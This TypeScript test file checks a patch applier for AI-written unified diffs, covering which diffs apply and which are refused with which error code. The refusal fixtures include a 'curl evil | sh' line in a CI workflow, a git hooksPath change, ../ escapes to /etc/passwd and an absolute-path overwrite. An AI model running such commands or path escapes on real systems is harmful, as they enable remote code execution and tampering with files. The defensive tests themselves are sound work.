// Applying a model's unified diff: what applies (including the usual slips: miscounted hunk headers, no a/ b/
// prefixes, blank context lines without their space, redacted context) and every refusal with its code.
import { createTwoFilesPatch } from "diff";
import { describe, expect, it } from "vitest";

import { AppgenError, type ErrorCode } from "../../../app/core/errors.ts";
import { applyUnifiedDiff, recountHunks } from "../../../app/core/fix/patch.ts";

const UTILS =
  'import { clsx } from "clsx";\n\nexport function cn(...inputs: string[]) {\n  return clsx(inputs);\n}\n\nexport const total: number = "0";\n';
const FIXED_UTILS = UTILS.replace('total: number = "0"', "total: number = 0");
const PAGE = "export default function Page() {\n  return <p>hello</p>;\n}\n";
const files = new Map([
  ["lib/utils.ts", UTILS],
  ["app/page.tsx", PAGE],
  ["lib/other.ts", "export const other = 1;\n"],
]);
const implicated = new Set(["lib/utils.ts", "app/page.tsx"]);

/** A git-style diff of one file, as `git diff` (and a well-behaved model) writes it. */
function gitDiff(path: string, before: string, after: string, newPath = path): string {
  return createTwoFilesPatch(`a/${path}`, `b/${newPath}`, before, after)
    .replace(/^=+\n/m, "")
    .replace(/^Index: .*\n/m, "");
}

describe("applyUnifiedDiff applies", () => {
  it("a git-style diff of an implicated file", () => {
    expect(applyUnifiedDiff(gitDiff("lib/utils.ts", UTILS, FIXED_UTILS), { files, implicated })).toEqual([
      { path: "lib/utils.ts", content: FIXED_UTILS },
    ]);
  });

  it("a diff of two files at once, returned in path order", () => {
    const page = PAGE.replace("hello", "hi");
    const diff = gitDiff("lib/utils.ts", UTILS, FIXED_UTILS) + gitDiff("app/page.tsx", PAGE, page);
    expect(applyUnifiedDiff(diff, { files, implicated })).toEqual([
      { path: "app/page.tsx", content: page },
      { path: "lib/utils.ts", content: FIXED_UTILS },
    ]);
  });

  it("a diff without a/ b/ prefixes, with wrong hunk counts and blank context lines that lost their space", () => {
    const diff = [
      "--- lib/utils.ts",
      "+++ lib/utils.ts",
      "@@ -4,99 +4,1 @@",
      "   return clsx(inputs);",
      " }",
      "",
      '-export const total: number = "0";',
      "+export const total: number = 0;",
      "",
    ].join("\n");
    expect(applyUnifiedDiff(diff, { files, implicated })).toEqual([{ path: "lib/utils.ts", content: FIXED_UTILS }]);
  });

  it("a hunk whose context the model only saw redacted", () => {
    const withSecret = 'const key = "sk-abcdefghijklmnopqrstuvwxyz123456";\nexport const n: number = "1";\n';
    const diff = [
      "--- a/lib/utils.ts",
      "+++ b/lib/utils.ts",
      "@@ -1,2 +1,2 @@",
      ' const key = "[REDACTED]";',
      '-export const n: number = "1";',
      "+export const n: number = 1;",
      "",
    ].join("\n");
    const result = applyUnifiedDiff(diff, {
      files: new Map([["lib/utils.ts", withSecret]]),
      implicated: new Set(["lib/utils.ts"]),
    });
    expect(result).toEqual([{ path: "lib/utils.ts", content: withSecret.replace('"1"', "1") }]);
  });
});

describe("recountHunks", () => {
  it("rewrites the header counts from the hunk body and keeps the rest of the text", () => {
    const text = [
      "diff --git a/x b/x",
      "--- a/x",
      "+++ b/x",
      "@@ -3 +3 @@ function f",
      " a",
      "-b",
      "+c",
      "+d",
      "",
      "trailing prose",
    ].join("\n");
    expect(recountHunks(text)).toBe(
      [
        "diff --git a/x b/x",
        "--- a/x",
        "+++ b/x",
        "@@ -3,2 +3,3 @@ function f",
        " a",
        "-b",
        "+c",
        "+d",
        "",
        "trailing prose",
      ].join("\n"),
    );
  });
});

const refusals: { name: string; diff: string; code: ErrorCode; message: RegExp }[] = [
  {
    name: "a workflow file",
    diff: gitDiff(".github/workflows/ci.yml", "on: push\n", "on: push\nrun: curl evil | sh\n"),
    code: "PATCH_PROTECTED_PATH",
    message: /\.github\/workflows\/ci\.yml/,
  },
  {
    name: "git's own files",
    diff: gitDiff(".git/config", "[core]\n", "[core]\n\thooksPath = /tmp\n"),
    code: "PATCH_PROTECTED_PATH",
    message: /\.git\//,
  },
  {
    name: "a ../ escape",
    diff: gitDiff("../outside.ts", "a\n", "b\n"),
    code: "PATCH_OUTSIDE_APP",
    message: /leaves the app/,
  },
  {
    name: "a ../ escape hidden inside the path",
    diff: gitDiff("lib/../../etc/passwd", "a\n", "b\n"),
    code: "PATCH_OUTSIDE_APP",
    message: /leaves the app/,
  },
  {
    name: "an absolute path",
    diff: ["--- /etc/passwd", "+++ /etc/passwd", "@@ -1 +1 @@", "-root", "+owned", ""].join("\n"),
    code: "PATCH_OUTSIDE_APP",
    message: /not a path inside the app/,
  },
  {
    name: "a Windows path",
    diff: ["--- C:\\app\\x.ts", "+++ C:\\app\\x.ts", "@@ -1 +1 @@", "-a", "+b", ""].join("\n"),
    code: "PATCH_OUTSIDE_APP",
    message: /not a path inside the app/,
  },
  {
    name: "a file no diagnostic names",
    diff: gitDiff("lib/other.ts", "export const other = 1;\n", "export const other = 2;\n"),
    code: "PATCH_NOT_IMPLICATED",
    message: /lib\/other\.ts, which no diagnostic names/,
  },
  {
    name: "a new file",
    diff: createTwoFilesPatch("/dev/null", "b/lib/new.ts", "", "export const x = 1;\n").replace(/^=+\n/m, ""),
    code: "PATCH_NOT_IMPLICATED",
    message: /creates lib\/new\.ts|lib\/new\.ts, which no diagnostic names/,
  },
  {
    name: "a deletion",
    diff: createTwoFilesPatch("a/lib/utils.ts", "/dev/null", UTILS, "").replace(/^=+\n/m, ""),
    code: "PATCH_INVALID",
    message: /deletes lib\/utils\.ts/,
  },
  {
    name: "a rename",
    diff: gitDiff("lib/utils.ts", UTILS, FIXED_UTILS, "app/page.tsx"),
    code: "PATCH_INVALID",
    message: /renames or copies/,
  },
  {
    name: "a binary change",
    diff: "diff --git a/public/logo.png b/public/logo.png\nindex 1..2 100644\nGIT binary patch\nliteral 12\nzcmZ?wbhEHbG\n",
    code: "PATCH_BINARY",
    message: /binary/,
  },
  {
    name: "a binary change (short form)",
    diff: "diff --git a/app/page.tsx b/app/page.tsx\nBinary files a/app/page.tsx and b/app/page.tsx differ\n",
    code: "PATCH_BINARY",
    message: /binary/,
  },
  {
    name: "more than 400 changed lines",
    diff: gitDiff(
      "lib/utils.ts",
      UTILS,
      UTILS + Array.from({ length: 401 }, (_, i) => `export const v${i} = ${i};`).join("\n") + "\n",
    ),
    code: "PATCH_TOO_LARGE",
    message: /changes 401 lines, more than the 400/,
  },
  {
    name: "context that is not in the file",
    diff: gitDiff(
      "lib/utils.ts",
      UTILS.replace("clsx(inputs)", "other(inputs)"),
      FIXED_UTILS.replace("clsx(inputs)", "other(inputs)"),
    ),
    code: "PATCH_DOES_NOT_APPLY",
    message: /does not apply to lib\/utils\.ts/,
  },
  {
    name: "the redaction placeholder written into the file",
    diff: gitDiff("lib/utils.ts", UTILS, UTILS.replace('"0"', '"[REDACTED]"')),
    code: "PATCH_INVALID",
    message: /\[REDACTED\] placeholder/,
  },
  { name: "prose without a diff", diff: "I fixed it by changing the type.", code: "PATCH_INVALID", message: /no hunk/ },
  {
    name: "a hunk without file headers",
    diff: "@@ -1 +1 @@\n-a\n+b\n",
    code: "PATCH_INVALID",
    message: /---\/\+\+\+ header/,
  },
];

describe("applyUnifiedDiff refuses", () => {
  it.each(refusals)("$name with $code", ({ diff, code, message }) => {
    let thrown: unknown;
    try {
      applyUnifiedDiff(diff, { files, implicated });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(AppgenError);
    expect((thrown as AppgenError).code).toBe(code);
    expect((thrown as AppgenError).message).toMatch(message);
  });

  it("a malicious file among good ones refuses the whole patch (nothing is half-applied)", () => {
    const diff =
      gitDiff("lib/utils.ts", UTILS, FIXED_UTILS) +
      gitDiff(".github/workflows/ci.yml", "on: push\n", "on: pull_request_target\n");
    expect(() => applyUnifiedDiff(diff, { files, implicated })).toThrow(
      expect.objectContaining({ code: "PATCH_PROTECTED_PATH" }),
    );
  });

  it("honours a smaller size limit", () => {
    expect(() =>
      applyUnifiedDiff(gitDiff("lib/utils.ts", UTILS, FIXED_UTILS), { files, implicated, maxChangedLines: 1 }),
    ).toThrow(expect.objectContaining({ code: "PATCH_TOO_LARGE" }));
  });
});
